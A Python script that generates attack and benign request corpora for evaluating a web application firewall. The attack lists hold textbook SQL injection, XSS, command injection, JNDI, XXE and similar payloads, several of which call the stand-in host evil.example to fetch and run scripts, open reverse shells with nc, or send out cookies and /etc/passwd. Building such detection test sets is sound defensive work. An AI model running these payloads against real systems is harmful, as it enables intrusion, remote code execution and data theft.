#!/usr/bin/env python3
"""Generate edgewaf's evaluation corpora (tests/eval/attacks.jsonl, benign.jsonl).

Every payload here is written for this project (no list copied from another
project): the attack shapes are the textbook forms of each class, the benign
requests are synthetic payment/SaaS API calls. Output is deterministic (fixed
seed), so a re-run reproduces the committed files byte for byte.

One JSON object a line:
  {"id", "kind": "attack"|"benign", "class", "placement", "encoding",
   "method", "target", "headers": [[name, value], ...], "body": str | null,
   "body_b64": str | null}
"""
import base64
import html
import json
import random
import sys
import urllib.parse
from pathlib import Path

HERE = Path(__file__).resolve().parent

# --- attacks -----------------------------------------------------------------

PAYLOADS = {
    "sqli": [
        "1' OR '1'='1", "1 UNION SELECT username, password FROM users--",
        "'; DROP TABLE accounts; --", "1 AND SLEEP(5)", "admin'--",
        "1) OR 1=1 LIMIT 1 -- -", "' UNION ALL SELECT NULL,@@version#",
        "1;WAITFOR DELAY '0:0:5'--",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.domain)>",
        "<svg/onload=confirm(1)>", "javascript:alert(1)", "\"><iframe src=javascript:alert(1)>",
        "<body onpageshow=alert(1)>", "<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">x</a>",
        "<details open ontoggle=alert(1)>",
    ],
    "cmdi": [
        "; cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil.example/x.sh|sh)",
        "&& nc -e /bin/sh 203.0.113.5 4444", "; ping -c 3 203.0.113.5", "|| wget http://evil.example/a -O /tmp/a",
        "a;uname${IFS}-a",
    ],
    "path_traversal": [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow",
        "/var/www/../../etc/hosts", "..%2f..%2f..%2fetc%2fpasswd", "../../../proc/self/environ",
        "file:///etc/passwd", "..;/..;/WEB-INF/web.xml",
    ],
    "rce_path": [
        "cgi-bin/.%2e/.%2e/bin/sh", "index.php?s=/index/think\\app/invokefunction&function=system&vars[]=id",
        "${jndi:ldap://evil.example/a}", "$(id)", "shell?cmd=cat+/etc/passwd",
        "wp-admin/admin-ajax.php?action=exec&c=id", "%24%7B%27%27.getClass().forName(%27java.lang.Runtime%27)%7D",
        "actuator/gateway/routes/x?x=#{T(java.lang.Runtime).getRuntime().exec('id')}",
    ],
    "ldap": [
        "*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(|(objectClass=*)", "x)(cn=*))%00",
        "*))(|(mail=*", "admin*)((|userPassword=*)", ")(!(sn=x))", "*)(memberOf=cn=admins,dc=example,dc=com",
    ],
    "nosql": [
        '{"$ne": null}', '{"$gt": ""}', '{"$regex": "^adm"}', '{"$where": "this.password.length > 0"}',
        '{"$in": ["admin", "root"]}', '{"$nin": []}', '{"$exists": true}', "'; return true; var x='",
    ],
    "ssti": [
        "{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "<%= 7*7 %>", "#{7*7}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ],
    "ssi": [
        '<!--#exec cmd="id" -->', '<!--#include virtual="/etc/passwd" -->', '<!--#echo var="DOCUMENT_ROOT" -->',
        '<!--#exec cgi="/cgi-bin/x.cgi" -->', '<!--#include file="../../etc/hosts" -->', '<!--#printenv -->',
        '<!--#config errmsg="x" --><!--#exec cmd="ls" -->', '<!--#fsize file="/etc/passwd" -->',
    ],
    "mail": [
        "victim@example.com\r\nBcc: everyone@example.com", "x\r\nRCPT TO:<attacker@evil.example>",
        "INBOX\r\nA002 LOGOUT", "x\" \r\nA1 FETCH 1:* (BODY[])", "me@example.com%0aCc:spam@evil.example",
        "x\r\nDATA\r\nSubject: spoofed\r\n.\r\n", "a1 SELECT \"INBOX\"\r\na2 DELETE INBOX", "x\nMAIL FROM:<ceo@example.com>",
    ],
    "jndi": [
        "${jndi:ldap://evil.example/a}", "${jndi:rmi://203.0.113.5:1099/x}", "${${lower:j}ndi:ldap://evil.example/b}",
        "${jndi:dns://evil.example/c}", "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/d}",
        "${jndi:${lower:l}${lower:d}ap://evil.example/e}", "${env:AWS_SECRET_ACCESS_KEY:-${jndi:ldap://evil.example/f}}",
        "${jndi:ldaps://evil.example/g}",
    ],
    "xxe": [
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><r>&x;</r>',
        '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/evil.dtd"><r>1</r>',
        '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>',
        '<!DOCTYPE r [<!ENTITY % a SYSTEM "file:///etc/hostname"><!ENTITY % b "<!ENTITY c SYSTEM \'http://evil.example/?%a;\'>">%b;]><r>&c;</r>',
    ],
}

# A second set per class, in other shapes (other databases and contexts,
# other evasions, other template engines, other protocols), written after the
# detectors of guests/policies/detect had been tuned on the first set: it
# measures how far they generalise. Reported together with the first.
MORE_PAYLOADS = {
    "sqli": [
        "1' AND 1=CONVERT(int,(SELECT @@version))--", "' OR 1=1#", "1 OR 1=1",
        "x' AND extractvalue(1,concat(0x7e,version()))-- ", "1'; EXEC xp_cmdshell('dir')--",
        "' UNION/**/SELECT/**/password/**/FROM/**/users--", "1 AND (SELECT 1 FROM (SELECT SLEEP(3))x)",
        "') OR ('a'='a",
    ],
    "xss": [
        "<img src=1 onerror=\"alert`1`\">", "<input autofocus onfocus=alert(1)>",
        "<math><mtext><a xlink:href=javascript:alert(1)>x", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<form action=javascript:alert(1)><input type=submit>",
    ],
    "cmdi": [
        "; sleep 10", "| nslookup evil.example", "x && curl -d @/etc/passwd evil.example",
        "$(wget -qO- evil.example/s|bash)", "; /usr/bin/id", "a\nwhoami", "x || ping -n 3 127.0.0.1",
        "() { :; }; /bin/cat /etc/passwd",
    ],
    "path_traversal": [
        "../../../../../../etc/passwd%00.png", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd",
        "C:\\Windows\\System32\\drivers\\etc\\hosts", "....\\\\....\\\\boot.ini", "../../../../var/log/nginx/access.log",
        "..%c0%af..%c0%af..%c0%afetc/passwd", "/static/../../../../root/.ssh/id_rsa",
    ],
    "rce_path": [
        "cgi-bin/status?x=() { :; }; /bin/bash -c id", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
        "index.php?x=<?php system('id'); ?>", "vendor/phpunit?cmd=%7Cid", "api?exec=$(uname -a)",
        "run?c=;cat${IFS}/etc/passwd", "search?q={{7*'7'}}", "debug?code=__import__('os').system('id')",
    ],
    "ldap": [
        "admin)(|(password=*)", "*)(objectClass=*))(&(objectClass=void", "x*)(|(cn=*", "*)(uid=*)(|(uid=*",
        "jdoe)(|(telephoneNumber=*)", "*)(&(objectCategory=person)", "a)(|(sn=a*)(sn=b*)", "admin))(|(uid=*",
    ],
    "nosql": [
        '{"$or": [{"a": 1}, {"b": 2}]}', '{"$where": "sleep(5000)"}', "true, $where: '1 == 1'",
        "'; while(true){}; '", '{"$expr": {"$gt": ["$a", 0]}}', "'; sleep(5000); '",
        '{"password": {"$regex": ".*"}}', '{"username": {"$gt": ""}, "password": {"$gt": ""}}',
    ],
    "ssti": [
        "{{ self.__init__.__globals__ }}", "{{request.application.__globals__}}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "${{7*7}}", "{{7*'7'}}",
        "#set($x=7*7)$x", "@(7*7)", "{{range.constructor(\"return global.process.mainModule\")()}}",
    ],
    "ssi": [
        '<!--#exec cmd="cat /etc/passwd"-->', '<!--#include file="/etc/passwd"-->', '<!--#set var="x" value="y"-->',
        '<!--#if expr="$a = b"-->', '<!--#exec cmd="wget evil.example" -->', '<!--#flastmod file="index.html"-->',
        '<!--#echo var="DATE_LOCAL"-->', 'x<!--#exec cmd="nc -e /bin/sh 203.0.113.5 4444"-->',
    ],
    "mail": [
        "x@example.com\nTo: victim2@example.com", "subject\r\nContent-Type: text/html", "test\r\nBCC: a@evil.example",
        "x\r\nEHLO evil.example", "INBOX\"\r\nA3 LIST \"\" \"*\"", "x\r\nQUIT", "hi\nReply-To: attacker@evil.example",
        "box\r\nA9 STORE 1:* +FLAGS (\\Deleted)",
    ],
    "jndi": [
        "${jndi:ldap://${env:USER}.evil.example/a}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
        "${jndi:${lower:r}mi://evil.example/b}", "${${upper:j}ndi:ldap://evil.example/c}",
        "${jndi:ldap://127.0.0.1#evil.example:1389/a}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/d}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/e}", "x-${jndi:iiop://evil.example/f}",
    ],
    "xxe": [
        '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><foo>&xxe;</foo>',
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x PUBLIC "-//x//EN" "http://evil.example/x.dtd"><x/>',
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
        '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY % remote SYSTEM "http://evil.example/e.dtd">%remote;]><r/>',
        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>',
        '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY file SYSTEM "file:///proc/self/environ">]><data>&file;</data>',
        '<!DOCTYPE x [ <!ENTITY  y  SYSTEM  "netdoc:///etc/passwd" > ]><x>&y;</x>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "jar:http://evil.example/a.jar!/b.dtd">%d;]><r/>',
    ],
}

# (plus large_json: the payload at the end of a 70 KB JSON body, two per class)
PLACEMENTS = ["query", "form", "json", "xml", "graphql", "multipart", "path", "header", "user_agent"]
ENCODINGS = ["plain", "url", "double_url", "base64", "js_unicode", "html_entity"]
# XXE is a whole document: it goes where documents go.
XXE_PLACEMENTS = ["xml", "multipart"]


def encode(payload, encoding):
    if encoding == "plain":
        return payload
    if encoding == "url":
        return urllib.parse.quote(payload, safe="")
    if encoding == "double_url":
        return urllib.parse.quote(urllib.parse.quote(payload, safe=""), safe="")
    if encoding == "base64":
        return base64.b64encode(payload.encode()).decode()
    if encoding == "js_unicode":
        return "".join(f"\\u{ord(c):04x}" if not c.isalnum() or i % 2 == 0 else c for i, c in enumerate(payload))
    if encoding == "html_entity":
        return "".join(f"&#x{ord(c):x};" if not c.isalnum() else c for c in payload)
    raise ValueError(encoding)


def req(kind, cls, placement, encoding, method, target, headers, body=None):
    return {"kind": kind, "class": cls, "placement": placement, "encoding": encoding,
            "method": method, "target": target, "headers": headers, "body": body}


def header_safe(value):
    """Header values carry no CR, LF or non-ASCII: those are percent-encoded."""
    out = []
    for c in value:
        out.append(urllib.parse.quote(c) if c in "\r\n" or ord(c) > 126 or ord(c) < 32 else c)
    return "".join(out)


def place(cls, value, placement, encoding):
    q = urllib.parse.quote
    form = [["Content-Type", "application/x-www-form-urlencoded"]]
    js = [["Content-Type", "application/json"]]
    if placement == "query":
        return req("attack", cls, placement, encoding, "GET", f"/api/v1/search?q={q(value, safe='')}&page=1", [])
    if placement == "form":
        return req("attack", cls, placement, encoding, "POST", "/account/profile", form,
                   urllib.parse.urlencode({"display_name": value, "lang": "en"}))
    if placement == "json":
        if cls == "nosql" and value.startswith("{") and encoding == "plain":
            body = '{"username": "admin", "password": %s}' % value
        else:
            body = json.dumps({"customer": {"name": value, "email": "a@example.com"}, "amount": 1200})
        return req("attack", cls, placement, encoding, "POST", "/api/v1/customers", js, body)
    if placement == "xml":
        ct = [["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", "urn:GetAccount"]]
        if cls == "xxe":
            return req("attack", cls, placement, encoding, "POST", "/soap/account", ct, value)
        body = ('<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
                f"<soap:Body><GetAccount><id>{html.escape(value)}</id></GetAccount></soap:Body></soap:Envelope>")
        return req("attack", cls, placement, encoding, "POST", "/soap/account", ct, body)
    if placement == "large_json":
        # The payload after 70 KB of harmless items: bodies past an inspection
        # window must still be looked at.
        filler = [{"sku": f"SKU-{i:05d}", "qty": 1, "note": "standard item"} for i in range(1400)]
        body = json.dumps({"items": filler, "comment": value})
        return req("attack", cls, placement, encoding, "POST", "/api/v1/orders/bulk", js, body)
    if placement == "graphql":
        body = json.dumps({"query": "query Find($term: String!) { search(term: $term) { id name } }",
                           "variables": {"term": value}})
        return req("attack", cls, placement, encoding, "POST", "/graphql", js, body)
    if placement == "multipart":
        b = "----evalboundary7MA4YWxk"
        fname = "upload.xml" if cls == "xxe" else "notes.txt"
        ctype = "application/xml" if cls == "xxe" else "text/plain"
        body = (f"--{b}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n"
                f"{value if cls != 'xxe' else 'report'}\r\n"
                f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fname}\"\r\n"
                f"Content-Type: {ctype}\r\n\r\n{value}\r\n--{b}--\r\n")
        return req("attack", cls, placement, encoding, "POST", "/upload",
                   [["Content-Type", f"multipart/form-data; boundary={b}"]], body)
    if placement == "path":
        safe = "/?=&[]" if cls in ("path_traversal", "rce_path") else ""
        return req("attack", cls, placement, encoding, "GET", f"/api/v1/files/{q(value, safe=safe)}", [])
    if placement == "header":
        return req("attack", cls, placement, encoding, "GET", "/api/v1/me", [["X-Filter", header_safe(value)]])
    if placement == "user_agent":
        return req("attack", cls, placement, encoding, "GET", "/api/v1/me", [["User-Agent", header_safe(value)]])
    raise ValueError(placement)


def attacks():
    out = []
    for cls in PAYLOADS:
        payloads = PAYLOADS[cls] + MORE_PAYLOADS[cls]
        placements = XXE_PLACEMENTS if cls == "xxe" else PLACEMENTS
        for i, p in enumerate(payloads):
            rows = []
            # Every payload, plain, in every placement.
            for pl in placements:
                rows.append(place(cls, p, pl, "plain"))
            # The first two payloads of each set at the end of a 70 KB body.
            if i % 8 < 2 and cls != "xxe":
                rows.append(place(cls, p, "large_json", "plain"))
            # Every other encoding in three placements, rotating with the payload.
            for j, enc in enumerate(ENCODINGS[1:]):
                for k in range(3 if cls != "xxe" else 1):
                    pl = placements[(i + j + 3 * k) % len(placements)]
                    rows.append(place(cls, encode(p, enc), pl, enc))
            for r in rows:
                r["payload"] = i
                r["set"] = "first" if i < 8 else "second"
            out += rows
    return out


# --- benign ------------------------------------------------------------------

NAMES = ["Müller Jürgen", "Zoë O'Brien", "François Lefèvre", "山田 太郎", "Иван Петров", "José Núñez",
         "محمد علي", "李小龙", "Ólafur Þórsson", "Anna-Lena Groß", "Dvořák Antonín", "Søren Kierkegaard"]
CITIES = ["München", "Zürich", "São Paulo", "東京", "Москва", "Kraków", "Reykjavík", "Montréal", "القاهرة"]
CURRENCIES = ["EUR", "USD", "JPY", "CHF", "GBP", "BRL", "PLN"]
SUPPORT = [
    "Hi, the export fails. I ran `ls -la /tmp/exports` and the file is there, then cat on it shows nothing.",
    "Our cron job calls curl -X POST https://api.example.com/v1/sync every hour; since Monday it gets 500.",
    "Please select the account and update the billing address, we moved. Thanks!",
    "When I type rm in the search box, it deletes my filter — is that expected? Drop me a note.",
    "I'd like to delete my old card ending 4242 and use the new one from our union bank.",
    "Can you run the reconciliation script again? We use python3 and bash on our side.",
    "The webhook signature check fails when we echo the payload; we use sha256 as documented.",
    "Where can I find the sudo-free install instructions for the CLI? wget is blocked here.",
    "Order #1234 (2 x 'Deluxe' plan) was charged twice — where/when can I get a refund?",
    "Our admin said: \"insert the key into the config, then restart\". Which config file?",
]
RICH = [
    "<p>Thanks for the <strong>quick</strong> reply!</p><p>See <a href=\"https://example.com/docs\">the docs</a>.</p>",
    "<h2>Release notes</h2><ul><li>Faster exports</li><li>New <em>webhooks</em> page</li></ul>",
    "<p>Logo:</p><img src=\"https://cdn.example.com/logo.png\" alt=\"logo\" width=\"120\">",
    "<blockquote>Works great &mdash; 5 stars</blockquote><p style=\"color:#333\">Regards, Team</p>",
    "<table><tr><td>Plan</td><td>Pro</td></tr><tr><td>Seats</td><td>12</td></tr></table>",
]
SEARCHES = ["running shoes", "café au lait", "select comfort mattress", "union square hotel", "O'Reilly books",
            "C++ primer", "1/2 inch pipe", "size 10-12", "where to buy", "grep tutorial", "Tom & Jerry", "100% cotton"]


UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "curl/8.5.0", "python-requests/2.31.0", "okhttp/4.12.0", "Go-http-client/2.0",
    "PostmanRuntime/7.37.3", "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
]
MORE_SEARCHES = ["rock & roll", "AT&T phone case", "tom's diner", "50% off", "C# in depth", "<3 gifts",
                 "a|b testing", "what is 2+2", "node.js (book)", "USB-C -> HDMI", "x = y + 1", "foo; bar",
                 "sleep mask", "cat tree", "echo dot 5th gen", "find my phone", "id card holder", "kill bill dvd"]
MORE_RICH = [
    "<p>Screenshot:</p><p><img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\" alt=\"\"></p>",
    "<p>Run <code>ls -la /tmp</code> then:</p><pre><code>curl -X POST https://api.example.com/v1/sync\n  -H 'Content-Type: application/json'</code></pre>",
    "<p><span style=\"font-weight: bold; color: rgb(51, 51, 51)\">Important</span> &ndash; read <a href=\"mailto:billing@example.com\">billing</a></p>",
    "<ol><li>Open <em>Settings</em></li><li>Click <u>Export</u></li></ol><hr><p class=\"small\">v2.3</p>",
    "<p>Formula: <sup>2</sup>&frasl;<sub>3</sub> of the total &gt; 100 &amp; &lt; 200</p>",
]
MORE_SUPPORT = [
    "Steps to reproduce:\n1. Run this:\n```\ncurl -X POST https://api.example.com/v1/payments -H 'Authorization: Bearer sk_test_x' -d amount=100\n```\n2. You get a 500; the body says nothing.",
    "I tried restarting the worker; curl -v https://api.example.com/health still shows 503.",
    "We added api.example.com to /etc/hosts and it works now, thanks!",
    "Is there a way to export via CLI? e.g. `edgectl export --format csv > out.csv`",
    "Our logs (see /var/log/app/error.log) show timeouts at 02:00 UTC.",
    "The docs say: rm -rf node_modules && npm install. Did that, still broken.",
    "Price shows as $(price) instead of the number on the checkout page",
    "Hi team | quick question | can you enable SSO for us?",
    "Select the plan, then union the two invoices into one? Where do I do that?",
    "Our SQL export has 'O''Brien' twice; is the '--' in the notes column a problem?",
]
TEMPLATES = [
    "Hi {{first_name}}, your invoice {{invoice.number}} of {{ amount | currency }} is due on {{due_date}}.",
    "{% if customer.vip %}Thanks for being a VIP!{% else %}Thanks!{% endif %}",
    "Dear ${customer.name}, your order #{order.id} ships on ${ship_date}.",
    "Total: {{ subtotal + shipping }} ({{ items | size }} items)",
    "<%= user.first_name %>, your code is <%= code %>",
]


def jreq(cat, method, target, obj, ctype="application/json"):
    return req("benign", cat, "json", "plain", method, target, [["Content-Type", ctype]],
               json.dumps(obj, ensure_ascii=False))


def benign_one(rnd, n):
    name, city, cur = rnd.choice(NAMES), rnd.choice(CITIES), rnd.choice(CURRENCIES)
    cid, amount = f"cus_{rnd.randrange(16**10):010x}", rnd.randrange(100, 500000)
    k = n % 20
    if k >= 14:
        return benign_more(rnd, n, k, name, city, cid)
    if k == 0:
        return jreq("payment_create", "POST", "/v1/payments", {
            "amount": amount, "currency": cur, "customer": cid, "description": f"Invoice {n} for {name}",
            "metadata": {"order_id": str(n), "locale": rnd.choice(["de-DE", "fr-FR", "ja-JP", "ru-RU", "pt-BR"])},
            "billing": {"name": name, "city": city, "postal_code": f"{rnd.randrange(10000, 99999)}"}})
    if k == 1:
        return jreq("customer_patch", "PATCH", f"/v1/customers/{cid}",
                    {"name": name, "address": {"city": city, "line1": f"{rnd.randrange(1, 200)} Hauptstraße"}},
                    "application/json; charset=utf-8")
    if k == 2:
        return req("benign", "delete", "json", "plain", "DELETE", f"/v1/subscriptions/sub_{n:06d}", [], None)
    if k == 3:
        return jreq("webhook_put", "PUT", f"/v1/webhooks/wh_{n}", {
            "url": f"https://hooks.example.com/edgewaf/{n}", "events": ["payment.succeeded", "refund.created"],
            "enabled": True})
    if k == 4:
        return jreq("jsonapi", "PATCH", f"/api/articles/{n}", {
            "data": {"type": "articles", "id": str(n), "attributes": {"title": f"Quarterly report — {city}"}}},
            "application/vnd.api+json")
    if k == 5:
        return jreq("graphql", "POST", "/graphql", {
            "query": "query Payments($first: Int!, $after: String, $status: Status) "
                     "{ payments(first: $first, after: $after, status: $status) { edges { node { id amount } } } }",
            "variables": {"first": rnd.choice([10, 25, 50]), "after": None, "status": "SUCCEEDED"},
            "operationName": "Payments"})
    if k == 6:
        return jreq("graphql", "POST", "/graphql", {
            "query": "mutation UpdateCustomer($id: ID!, $input: CustomerInput!) "
                     "{ updateCustomer(id: $id, input: $input) { id name } }",
            "variables": {"id": cid, "input": {"name": name, "city": city}}})
    if k == 7:
        return jreq("rich_text", "POST", "/api/v1/notes", {
            "customer": cid, "body_html": rnd.choice(RICH), "author": name})
    if k == 8:
        return jreq("support", "POST", "/api/v1/tickets", {
            "subject": "Help needed", "message": rnd.choice(SUPPORT), "requester": {"name": name}})
    if k == 9:
        body = urllib.parse.urlencode({"name": name, "email": f"user{n}@example.com", "city": city,
                                       "company": "Acme & Söhne GmbH", "newsletter": "on"})
        return req("benign", "form", "form", "plain", "POST", "/signup",
                   [["Content-Type", "application/x-www-form-urlencoded"]], body)
    if k == 10:
        q = urllib.parse.quote(rnd.choice(SEARCHES))
        return req("benign", "search", "query", "plain", "GET",
                   f"/api/v1/products?q={q}&sort=-created_at&page[size]=20&filter[currency]={cur}", [])
    if k == 11:
        return req("benign", "get", "query", "plain", "GET", f"/v1/customers/{cid}/invoices?limit=10&status=open",
                   [["Accept", "application/json"], ["Accept-Language", "de-DE,de;q=0.9,en;q=0.8"]])
    if k == 12:
        return jreq("refund", "POST", f"/v1/refunds", {
            "payment": f"pay_{n}", "amount": amount // 2, "reason": "requested_by_customer",
            "note": f"Client {name} asked: 'please refund half' (ticket #{n})"})
    # k == 13: bulk, 10-100 KB
    items = []
    target = rnd.randrange(10_000, 100_000)
    size, i = 0, 0
    while size < target:
        it = {"sku": f"SKU-{i:05d}", "name": f"{rnd.choice(SEARCHES)} {i}", "qty": rnd.randrange(1, 9),
              "price": {"amount": rnd.randrange(100, 9999), "currency": cur}, "warehouse": rnd.choice(CITIES)}
        items.append(it)
        size += len(json.dumps(it, ensure_ascii=False)) + 2
        i += 1
    return jreq("bulk", "POST", "/v1/catalog/bulk", {"items": items})


def benign_more(rnd, n, k, name, city, cid):
    """The benign kinds added with the second attack set: real user agents and
    cookies, more search terms, rich text with inline images and code, support
    messages with code blocks and paths, message templates, JSON Schema, forms
    with punctuation and a CSV upload."""
    if k == 14:
        q = urllib.parse.quote(rnd.choice(MORE_SEARCHES))
        return req("benign", "search_ua", "query", "plain", "GET", f"/api/v1/products?q={q}&limit=20",
                   [["User-Agent", rnd.choice(UAS)], ["Accept", "application/json, text/plain, */*"],
                    ["Cookie", f"_ga=GA1.2.{rnd.randrange(10**9)}.{rnd.randrange(10**9)}; theme=dark; "
                               "session=eyJ1c2VyIjoiY3VzXzEyMyIsInJvbGUiOiJ2aWV3ZXIifQ"],
                    ["Referer", "https://shop.example.com/search?q=" + q]])
    if k == 15:
        return jreq("rich_text", "POST", "/api/v1/notes", {"customer": cid, "body_html": rnd.choice(MORE_RICH)})
    if k == 16:
        return jreq("support", "POST", "/api/v1/tickets", {
            "subject": "Problem with the API", "message": rnd.choice(MORE_SUPPORT), "requester": {"name": name}})
    if k == 17:
        return jreq("templates", "PUT", f"/v1/templates/tpl_{n}", {
            "name": "invoice_due", "locale": "en-GB", "body": rnd.choice(TEMPLATES)})
    if k == 18:
        return jreq("json_schema", "POST", "/v1/schemas", {
            "$schema": "https://json-schema.org/draft/2020-12/schema", "$id": f"https://example.com/s/{n}.json",
            "type": "object", "required": ["email"],
            "properties": {"email": {"type": "string", "pattern": "^[^@]+@[^@]+$"},
                           "name": {"$ref": "#/$defs/name"}, "tags": {"type": "array", "maxItems": 10}}})
    b = "----benignboundary" + str(n)
    csv = "sku,name,price\n" + "".join(f"A-{i},{rnd.choice(SEARCHES + MORE_SEARCHES)},{rnd.randrange(1, 99)}\n"
                                       for i in range(20))
    body = (f"--{b}\r\nContent-Disposition: form-data; name=\"address\"\r\n\r\nFlat 3; 21 Baker St, {city}\r\n"
            f"--{b}\r\nContent-Disposition: form-data; name=\"phone\"\r\n\r\n(555) 123-{rnd.randrange(1000, 9999)}\r\n"
            f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"Q3 results; draft.csv\"\r\n"
            f"Content-Type: text/csv\r\n\r\n{csv}\r\n--{b}--\r\n")
    return req("benign", "upload", "multipart", "plain", "POST", "/v1/imports",
               [["Content-Type", f"multipart/form-data; boundary={b}"]], body)


def benign(count=2000):
    rnd = random.Random(13)
    return [benign_one(rnd, n) for n in range(count)]


def write(path, rows, prefix):
    with open(path, "w", encoding="utf-8") as f:
        for i, r in enumerate(rows):
            r = {"id": f"{prefix}-{i:05d}", **r}
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


def main():
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    a, b = attacks(), benign()
    write(out / "attacks.jsonl", a, "a")
    write(out / "benign.jsonl", b, "b")
    print(f"{len(a)} attacks, {len(b)} benign requests written to {out}")


if __name__ == "__main__":
    main()
